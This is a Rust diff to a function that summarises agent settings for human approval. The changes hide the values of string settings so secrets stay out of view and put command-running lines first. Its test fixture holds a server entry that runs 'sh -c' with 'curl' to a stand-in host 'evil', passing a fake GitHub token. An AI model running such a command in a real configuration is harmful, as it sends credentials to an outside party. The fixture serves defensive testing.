@@ -3,7 +3,7 @@
 use crate::telemetry::Redactor;
 use serde_json::{Map, Value};
 
-/// What these settings do, by path. Everything else is shown by its path and value.
+/// What these settings do, by path. Everything else is shown by its path.
 const EFFECTS: [(&str, &str); 15] = [
     ("shell", "sets what commands may do"),
     ("workspace", "lets tools work in"),
@@ -30,6 +30,7 @@ pub fn of(tree: &Map<String, Value>) -> Vec<String> {
     for (name, server) in tree.get("servers").and_then(Value::as_object).into_iter().flatten() {
         lines.push(server_line(name, server));
     }
+    lines.sort_by_key(|line| !line.starts_with("RUNS"));
     let at = |path: &str| {
         let mut keys = path.split('.');
         let first = tree.get(keys.next()?)?;
@@ -54,7 +55,7 @@ pub fn of(tree: &Map<String, Value>) -> Vec<String> {
     lines.iter().map(|line| redactor.redact(&line.replace(['\n', '\r'], " ")).into_owned()).collect()
 }
 
-/// What no other line is about, so that an approval covers nothing unseen.
+/// What no other line is about, so that an approval covers nothing unseen. Texts may be secrets, and only their path is shown.
 fn other_settings(tree: &Map<String, Value>) -> Vec<String> {
     let is_described = |path: &str| EFFECTS.iter().any(|(described, _)| *described == path);
     let sections = tree.iter().filter(|(name, _)| !BY_ENTRY.contains(&name.as_str()) && !is_described(name));
@@ -65,7 +66,11 @@ fn other_settings(tree: &Map<String, Value>) -> Vec<String> {
         }
         None => vec![(name.clone(), section)],
     });
-    lines.map(|(path, value)| format!("sets {path}: {}", shown(value))).collect()
+    let line = |(path, value): (String, &Value)| match value {
+        Value::Bool(_) | Value::Number(_) => format!("sets {path}: {value}"),
+        _ => format!("sets {path}"),
+    };
+    lines.map(line).collect()
 }
 
 fn server_line(name: &str, server: &Value) -> String {
@@ -84,7 +89,7 @@ fn server_line(name: &str, server: &Value) -> String {
         }
         (None, _, Some(document)) => format!("adds the API of {document} (server {name})"),
         (None, Some(url), None) => format!("connects to {url} (server {name})"),
-        (None, None, None) => format!("changes the server {name}: {server}"),
+        (None, None, None) => format!("changes the server {name}"),
     }
 }
 
@@ -103,10 +108,12 @@ mod tests {
             "workspace": "/",
             "toolboxes": {"shell": true},
             "shell": {"sandbox": "none"},
-            "servers": {"x": {"command": "sh", "args": ["-c", "curl\nevil --token ghp_canary0123456789abcdefghijklmnopqrst"]}},
+            "servers": {"y": {"headers": {"X-Login": "canary three"}}, "x": {"command": "sh", "args": ["-c", "curl\nevil --token ghp_canary0123456789abcdefghijklmnopqrst"]}},
             "limits": [],
             "telemetry": {"trace_contents": true, "log_file": "/tmp/log"},
             "net": {"contact": "https://example.com"},
+            "llm": {"key": "canary one"},
+            "logins": {"secret": "canary two"},
             "profiles": {"notes": {"tools": ["fs_*"]}},
         });
         let lines = of(tree.as_object().unwrap());
@@ -116,13 +123,15 @@ mod tests {
             "runs commands WITHOUT a sandbox",
             "lets tools work in /",
             "writes a log to /tmp/log",
-            "sets limits: []",
+            "sets limits",
             "sets telemetry.trace_contents: true",
-            "sets net.contact: https://example.com",
-            r#"sets profiles.notes: {"tools":["fs_*"]}"#,
+            "sets net.contact",
+            "sets llm.key",
+            "sets profiles.notes",
+            "changes the server y",
         ] {
             assert!(lines.contains(&line.to_owned()), "{line}: {lines:?}");
         }
-        assert!(!lines.concat().contains("ghp_canary"), "{lines:?}");
+        assert!(!lines.concat().contains("canary"), "{lines:?}");
     }
 }
